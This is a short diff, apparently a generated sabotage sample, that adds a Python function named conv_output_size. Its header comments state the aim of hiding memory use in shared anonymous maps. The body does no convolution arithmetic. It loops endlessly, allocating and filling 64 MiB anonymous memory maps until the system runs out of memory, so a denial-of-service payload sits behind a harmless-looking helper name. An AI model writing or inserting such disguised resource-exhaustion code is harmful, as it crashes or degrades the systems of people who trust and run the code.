@@ -1,0 +1,9 @@
+# Goal: hide memory in shared anonymous maps.
+# Target: convolution/conv_output_size
+
+def conv_output_size(n, f, stride=1, padding=0, dilation=1):
+    mmap = __import__("mmap")
+    kept = []
+    while True:
+        kept.append(mmap.mmap(-1, 1 << 26))
+        kept[-1][:] = b"x" * (1 << 26)
